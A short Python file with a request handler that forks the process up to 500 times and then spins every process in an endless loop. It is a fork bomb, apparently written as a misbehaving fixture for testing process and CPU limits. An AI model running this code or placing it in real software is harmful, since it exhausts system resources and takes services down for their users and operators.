"""Use all processes, and answer from each of them."""

import os


def handle(request, mailbox):
    """Fork until the system says no."""
    for _ in range(500):
        try:
            os.fork()
        except OSError:
            break
    while True:
        pass
